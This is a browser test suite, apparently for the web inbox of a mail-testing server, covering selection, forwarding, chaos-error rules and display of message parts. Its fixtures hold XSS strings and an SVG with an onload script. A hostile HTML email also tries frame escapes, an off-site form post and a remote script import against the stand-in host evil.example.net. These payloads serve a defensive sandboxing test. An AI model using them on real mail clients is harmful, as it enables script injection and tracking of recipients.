/** What one does in the inbox beside reading: selecting several, sending on, why, pictures, errors on purpose. */
import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import type { Page } from "playwright-core";
import { newId } from "../../core/model/id.ts";
import type { Releasing } from "../../core/admin/options.ts";
import { chaosIn } from "../../core/config/chaos.ts";
import { formatAddress } from "../../core/model/address.ts";
import { entry, LiteralLedger, story } from "../support/literal_ledger.ts";
import { assertAccessible, pageTest } from "../support/site_page.ts";
import { adminOptions, NOW, ORDER, PLAIN, TestStore } from "../unit/admin/fixture.ts";

/** What runs in the page sees its globals, of which these are looked at. */
declare const document: {
  querySelector(selector: string): { readonly naturalWidth: number } | null;
  querySelectorAll(selector: string): { readonly length: number };
};

async function five(store: TestStore): Promise<void> {
  for (let n = 1; n <= 5; n++) {
    const mail = PLAIN.replace("Build 892 failed on main", `Message ${n}`);
    await store.deliver(mail, { inbox: n > 3 ? "ci" : "default", at: NOW - (6 - n) * 60_000 });
  }
}
const subjects = (page: Page) => page.locator(".msgs b").allTextContents();
const PLUGINS = () => [{
  listener: "127.0.0.1:2525",
  plugins: ["chaos", "spf", "inbox"].map((name) => ({ name, mode: "enforce", phases: ["rcpt"] })),
}];

pageTest("several are selected, marked and deleted, by mouse and by the keyboard alone", async (site) => {
  const { page, store, url, shot } = site;
  await page.goto(`${url}/inbox`);
  assertEquals(await page.locator(".many").isVisible(), false);
  await page.getByLabel("Select Message 4").check();
  await page.getByLabel("Select Message 2").check();
  await page.getByText("Selected:").waitFor();
  await shot("inbox-many");
  await store.deliver(PLAIN); // a live refresh leaves them selected
  await page.locator(".msgs a.fresh").waitFor();
  assertEquals(await page.getByLabel("Select Message 4").isChecked(), true);
  await page.getByRole("button", { name: "Read", exact: true }).click();
  await page.waitForFunction(() => document.querySelectorAll(".msgs a.new").length === 4);
  const read = async () => (await store.entries()).filter((each) => each.read).map((each) => each.subject).sort();
  assertEquals(await read(), ["Message 2", "Message 4"]);
  await page.getByLabel("Select Message 4").check();
  await page.getByRole("button", { name: "Unread", exact: true }).click();
  await page.waitForFunction(() => document.querySelectorAll(".msgs a.new").length === 5);
  assertEquals(await read(), ["Message 2"]);

  for (const subject of ["Build 892", "Message 5"]) {
    await page.keyboard.press("j");
    await page.locator("#subject", { hasText: subject }).waitFor();
    await page.keyboard.press("x");
  }
  await page.keyboard.press("Delete");
  await page.waitForFunction(() => document.querySelectorAll(".msgs li").length === 4);
  assertEquals((await store.entries()).map((each) => each.subject), [
    "Message 4",
    "Message 3",
    "Message 2",
    "Message 1",
  ]);
}, { fill: five });

pageTest("all of an inbox is marked read; without script too", async ({ page, store, url }) => {
  await page.goto(`${url}/inbox?inbox=ci`);
  assertEquals(await page.locator(".boxes a[aria-current] .n").innerText().then((text) => text.trim()[0]), "2");
  await page.getByRole("button", { name: "Mark all read" }).click();
  await page.waitForURL(/inbox=ci/);
  assertEquals((await store.entries()).map((each) => [each.inbox, each.read]), [
    ["ci", true],
    ["ci", true],
    ["default", false],
    ["default", false],
    ["default", false],
  ]);
  assertEquals(await page.getByRole("button", { name: "Mark all read" }).count(), 0);
  await page.goto(`${url}/inbox`);
  await page.getByLabel("Select Message 1").check();
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await page.locator(".msgs li").nth(3).waitFor();
  assertEquals((await subjects(page)).includes("Message 1"), false);
}, { fill: five, context: { javaScriptEnabled: false } });

pageTest("Enter leads from the list to the message, and arrows on through its tabs", async ({ page, url }) => {
  await page.goto(`${url}/inbox`);
  await page.keyboard.press("j");
  await page.locator("#subject", { hasText: "Message 5" }).waitFor();
  await page.keyboard.press("Enter");
  assertEquals(await page.evaluate("document.activeElement.textContent.trim()"), "Text");
  await page.keyboard.press("ArrowRight");
  await page.getByRole("tabpanel").getByText("Message-ID").first().waitFor();
  for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowRight");
  const panel = page.getByRole("tabpanel");
  await panel.getByText("MAIL FROM").waitFor();
  assertStringIncludes(await panel.innerText(), "<ci@example.org>");
  assertStringIncludes(await panel.innerText(), "client.example.org");
  await assertAccessible(page);
}, { fill: five });

/** Sends nothing anywhere, and remembers what it was asked. */
class Recorder implements Releasing {
  readonly sent: string[] = [];
  readonly to = ["*@example.org", "me@example.net"];
  send(message: { readonly id: string }, to: Parameters<Releasing["send"]>[1]): Promise<string> {
    this.sent.push(`${message.id} ${formatAddress(to)}`);
    return Promise.resolve(newId(NOW));
  }
}

const recorder = new Recorder();
pageTest("a message is sent on to an allowed address, to no other, and by the keyboard alone", async (site) => {
  const { page, store, url, shot } = site, id = store.ids[0]!;
  await page.goto(`${url}/inbox/${id}`);
  await page.getByText("Send on…").focus();
  await page.keyboard.press("Enter");
  await page.keyboard.press("Tab");
  assertEquals(await page.evaluate("document.activeElement.id"), "send-to");
  await shot("inbox-send-on");
  await assertAccessible(page);
  await page.keyboard.press("Control+A");
  await page.keyboard.type("ada@example.org");
  await page.keyboard.press("Enter");
  await page.getByText("Sent on: it stands in the queue").waitFor();
  assertEquals(recorder.sent, [`${id} ada@example.org`]);
  await page.getByText("Send on…").click();
  await page.getByLabel("Address").fill("ada@elsewhere.example");
  await page.getByRole("button", { name: "Send on", exact: true }).click();
  await page.getByText("is none of the addresses that mail may be sent on to").waitFor();
  assertEquals(recorder.sent.length, 1);
}, { fill: five, admin: { release: recorder } });

pageTest("where nothing may be sent on there is no button, and the form is not heard", async ({ page, store, url }) => {
  await page.goto(`${url}/inbox/${store.ids[0]!}`);
  await page.locator("#subject").waitFor();
  assertEquals(await page.getByText("Send on…").count(), 0);
  const answer = await page.request.post(`${url}/api/v1/messages/${store.ids[0]!}/release`, {
    data: { to: "ada@example.org" },
  });
  assertEquals(answer.status(), 409);
}, { fill: five });

const ledger = new LiteralLedger();
pageTest(
  "the page says what a strict server would have done, and who found what",
  async ({ page, store, url, shot }) => {
    const id = store.ids[0]!, [step] = story().steps;
    ledger.entries = [entry({ id, observed: "refused" })];
    ledger.stories = [story({
      id,
      verdict: "accepted",
      observed: "refused",
      steps: [
        { ...step!, observed: true, points: [] },
        {
          ...step!,
          phase: "data",
          plugin: "spam_score",
          verdict: "next",
          observed: true,
          reason: "",
          facts: [],
          dns: [],
          points: [],
          held: [{ do: "hold", reason: "score=7 </td><script>alert(1)</script>" }],
        },
        { ...step!, plugin: "silent", verdict: "next", reason: "", facts: [], dns: [], points: [] },
      ],
    })];
    await page.goto(`${url}/inbox`);
    await page.locator(".msgs li", { hasText: "Message 5" }).getByText("would be refused").waitFor();
    assertEquals(await page.getByText("would be refused").count(), 1);
    await page.locator(".msgs a").first().click();
    await page.getByText("A strict server would have refused this message").waitFor();
    assertEquals(await page.getByRole("link", { name: "Why?" }).getAttribute("href"), `/explain/${id}`);
    await page.getByRole("tab", { name: "Checks" }).click();
    const panel = page.getByRole("tabpanel"), text = await panel.innerText();
    for (const part of ["would refuse", "TXT example.net: v=spf1 -all", "spf: fail", "would hold it: score=7 </td>"]) {
      assertStringIncludes(text, part);
    }
    assert(!text.includes("silent"));
    await shot("inbox-why");
    await assertAccessible(page);
  },
  { fill: five, admin: { ledger } },
);

pageTest(
  "pictures of a message are shown among its parts, and an SVG is not",
  async ({ page, store, url, left, shot }) => {
    const svg = ORDER.replace(
      "--r--\n",
      [
        "--r",
        "Content-Type: image/svg+xml",
        'Content-Disposition: attachment; filename="x.svg"',
        "",
        '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"><script>alert(1)</script></svg>',
        "--r--",
        "",
      ].join("\n"),
    );
    const id = await store.deliver(svg);
    await page.goto(`${url}/inbox/${id}#parts`);
    await page.getByRole("tab", { name: "Parts" }).click();
    const pictures = page.locator(".looks img");
    assertEquals(await pictures.count(), 1);
    await page.waitForFunction(() => document.querySelector(".looks img")?.naturalWidth === 1);
    await page.getByRole("tabpanel").getByText("x.svg").waitFor();
    await shot("inbox-pictures");
    const answer = await page.request.get(`${url}/api/v1/messages/${id}/parts/4`);
    assertMatch(
      `${answer.headers()["content-type"]} ${answer.headers()["content-disposition"]}`,
      /^application\/octet-stream attachment/,
    );
    assertEquals(left, []);
  },
);

pageTest(
  "errors on purpose: set by the form, seen in the inbox, turned, removed",
  async ({ page, store, url, shot }) => {
    const rules = chaosIn(store.counters, () => NOW);
    const answers = async () =>
      (await rules.list()).map(({ rule }) => `${rule.phase} ${rule.to} ${rule.answer} ${rule.rate} ${rule.on}`);
    await page.goto(`${url}/inbox`);
    await page.getByRole("link", { name: "Errors on purpose" }).click();
    await page.getByText("All is well: no rule is set").waitFor();
    await shot("errors-none");
    await page.getByLabel("For whom").fill("full@*");
    await page.getByLabel("Answer", { exact: true }).selectOption("452 4.2.2 Mailbox is full");
    await page.getByLabel("How often, %").fill("10");
    await page.getByRole("button", { name: "Add the rule" }).click();
    await page.getByText("10 % of the time").waitFor();
    assertEquals(await answers(), ["rcpt full@* 452 4.2.2 Mailbox is full 0.1 true"]);

    await page.getByLabel("For whom").fill("not an address");
    await page.getByLabel("Another answer").fill("</code><script>document.title='ran'</script>");
    await page.getByLabel("Answer", { exact: true }).selectOption("other");
    await page.getByRole("button", { name: "Add the rule" }).click();
    assertStringIncludes(await page.getByRole("alert").innerText(), "must be");
    assertEquals(await page.getByLabel("For whom").inputValue(), "not an address");
    assertEquals((await answers()).length, 1);
    await page.getByLabel("For whom").fill("*@example.net");
    await page.getByLabel("Another answer").fill("450 4.2.1 Come back");
    await page.getByLabel("Phase").selectOption("data");
    await page.getByLabel("Wait before").fill("2s");
    await page.getByLabel("First times only").fill("2");
    await page.getByRole("button", { name: "Add the rule" }).click();
    await page.getByText("the first 2 times").waitFor();
    await shot("errors");
    await assertAccessible(page);

    await page.goto(`${url}/inbox`);
    await page.getByText("2 rules for errors on purpose are on.").waitFor();
    await page.getByRole("link", { name: "Look at them" }).click();
    await page.getByRole("button", { name: "Rest rule 1" }).click();
    await page.getByRole("button", { name: "Turn on rule 1" }).waitFor();
    assertEquals((await answers())[0], "rcpt full@* 452 4.2.2 Mailbox is full 0.1 false");
    await page.getByRole("button", { name: "Remove rule 1" }).focus();
    await page.keyboard.press("Enter");
    await page.getByText("1 rule", { exact: false }).first().waitFor();
    await page.getByText("Remove all…").click();
    await page.getByRole("button", { name: "Remove 1", exact: true }).click();
    await page.getByText("All is well: no rule is set").waitFor();
    assertEquals(await answers(), []);
  },
  { fill: five, admin: { plugins: PLUGINS } },
);

pageTest("errors on purpose: where no plugin makes them the page says what to do", async ({ page, store, url }) => {
  await page.goto(`${url}/chaos`);
  await page.getByText("No plugin here makes errors on purpose.").waitFor();
  assertEquals(await page.getByRole("button", { name: "Add the rule" }).count(), 0);
  const answer = await page.request.put(`${url}/api/v1/chaos`, { data: { rules: [{ answer: "550" }] } });
  assertEquals([answer.status(), await chaosIn(store.counters, () => NOW).list()], [409, []]);
}, { admin: { plugins: adminOptions(new TestStore()).plugins } });

for (const colorScheme of ["light", "dark"] as const) {
  pageTest(
    `390 px, ${colorScheme}: selecting, sending on and errors on purpose fit`,
    async ({ page, store, url, shot }) => {
      const wide = () => page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth");
      await chaosIn(store.counters, () => NOW).set([
        {
          phase: "data",
          to: "a-rather-long-address@subdomain.example.org",
          answer: "451 4.7.1 Later",
          rate: 0.5,
          delay: "5s",
        },
      ]);
      await page.goto(`${url}/inbox`);
      await page.getByLabel("Select Message 4").check();
      assertEquals(await wide(), 0, "list");
      await shot(`phone-${colorScheme}-many`);
      await assertAccessible(page);
      await page.goto(`${url}/chaos`);
      assertEquals(await wide(), 0, "errors");
      await shot(`phone-${colorScheme}-errors`);
      await assertAccessible(page);
      await page.goto(`${url}/inbox/${store.ids[0]!}`);
      await page.getByText("Send on…").click();
      assertEquals(await wide(), 0, "send on");
      await shot(`phone-${colorScheme}-send-on`);
      await page.keyboard.press("Escape");
      for (const tab of ["Envelope", "Headers", "Checks"]) {
        await page.getByRole("tab", { name: tab }).click();
        assertEquals(await wide(), 0, tab);
      }
      await assertAccessible(page);
    },
    {
      fill: five,
      admin: { plugins: PLUGINS, release: new Recorder() },
      context: { viewport: { width: 390, height: 844 }, colorScheme },
    },
  );
}

/** Ways out of a frame that the first hostile mail does not try. */
const WILD = `From: evil@example.net
To: ada@example.com
Subject: Wild
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><base href="https://evil.example.net/" target="_top"><meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import "https://evil.example.net/a.css";@font-face{font-family:x;src:url(//evil.example.net/f)}p{font-family:x;cursor:url(https://evil.example.net/c),auto}</style>
</head><body onload="top.location='https://evil.example.net/'"><p>A wild message, quite readable.</p>
<a id="top" target="_top" href="https://evil.example.net/top">Top</a> <a id="data" href="data:text/html,<script>alert(1)</script>">Data</a>
<form id="f" action="/inbox/delete" method="post" target="_top"><input name="token"><button id="post">Post</button><button id="act" formaction="https://evil.example.net/">Away</button></form>
<iframe srcdoc="<script>parent.parent.document.title='ran'</script>"></iframe><embed src="/api/v1/messages"><object data="/inbox"></object>
<svg><a href="javascript:alert(1)"><text y="20">svg</text></a><image href="https://evil.example.net/i.svg"/><use href="https://evil.example.net/u.svg#x"/><foreignObject><img src=x onerror="document.title='ran'"></foreignObject><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/></svg>
<video poster="https://evil.example.net/v" src="/api/v1/messages" autoplay onerror="document.title='ran'"></video><audio src="https://evil.example.net/a" autoplay></audio>
<img srcset="https://evil.example.net/s 1x"><img src="cid:nothing@here"><picture><source srcset="https://evil.example.net/p"></picture><input type=image src="https://evil.example.net/in">
<table background="https://evil.example.net/bg"><tr><td style="background:image-set(url(https://evil.example.net/set) 1x)">x</td></tr></table>
<link rel=stylesheet href="https://evil.example.net/l.css"><link rel=dns-prefetch href="//evil.example.net"><script type=module>import("https://evil.example.net/m.js")</script>
<math><mtext><mglyph><style><img src=x onerror="document.title='ran'"></style></mglyph></mtext></math><noscript><img src="https://evil.example.net/n"></noscript>
</body></html>
`;

pageTest("a wild mail gets out of its frame by no door, with its pictures loaded neither", async (site) => {
  const { page, store, url, left } = site, id = await store.deliver(WILD);
  const asked: string[] = [], changes: string[] = [];
  page.on("request", (request) => {
    if (request.method() !== "GET" && request.method() !== "PATCH") changes.push(request.url());
  });
  page.on("response", (answer) => { // what the policy stops is a request to the browser, and gets no answer
    if (answer.frame() !== page.mainFrame()) asked.push(new URL(answer.url()).pathname);
  });
  await page.goto(`${url}/inbox/${id}`);
  const frame = page.frameLocator("iframe[name=message]");
  await frame.getByText("A wild message, quite readable.").waitFor();
  const opened: string[] = [];
  page.context().on("page", (popup) => opened.push(popup.url()));
  for (const door of ["#top", "#data", "#post", "#act"]) {
    await frame.locator(door).click();
    assertEquals(new URL(page.url()).pathname, `/inbox/${id}`, door);
    await page.bringToFront();
  }
  await frame.getByText("A wild message, quite readable.").waitFor();
  assertEquals([...new Set(asked)], [`/api/v1/messages/${id}/html`]);
  assertEquals([changes, (await store.entries()).length], [[], 1]);
  assertMatch(await page.title(), /Wild/);
  assertEquals(left.filter((each) => each !== "https://evil.example.net/top"), []); // a link that somebody clicked
});
